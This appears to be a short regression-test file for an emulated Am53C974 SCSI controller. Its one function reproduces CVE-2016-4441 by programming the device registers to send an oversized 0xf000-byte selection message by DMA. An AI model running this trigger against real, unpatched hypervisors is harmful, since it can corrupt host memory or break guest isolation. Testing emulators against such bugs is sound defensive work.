# SPDX-License-Identifier: GPL-2.0
"""AMD's Am53C974 SCSI controller"""

DEVICES = ("am53c974", "scsi-hd,drive=disk,bus=dut.0")
BACKENDS = ("-blockdev driver=null-co,node-name=disk,read-zeroes=on",)
# CONFIG 1
PROBE = 0, 0x20

COUNT_LOW, COUNT_MIDDLE, COMMAND, TARGET = 0x00, 0x04, 0x0c, 0x10
DMA_COMMAND, DMA_COUNT, DMA_ADDRESS = 0x40, 0x44, 0x48
DMA_START = 3
SELECT_WITH_ATN, WITH_DMA = 0x42, 0x80
SIZE = 0xf000


def cve_2016_4441(guest):
    """The message and the command that select a disk are far longer than any."""
    bar = guest.device.bars[0]
    bar.write(DMA_ADDRESS, guest.memory(b"\xff" * SIZE))
    bar.write(DMA_COUNT, SIZE)
    bar.write(DMA_COMMAND, DMA_START)
    bar.write(COUNT_LOW, SIZE & 0xff)
    bar.write(COUNT_MIDDLE, SIZE >> 8)
    bar.write(TARGET, 0)
    bar.write(COMMAND, SELECT_WITH_ATN | WITH_DMA)
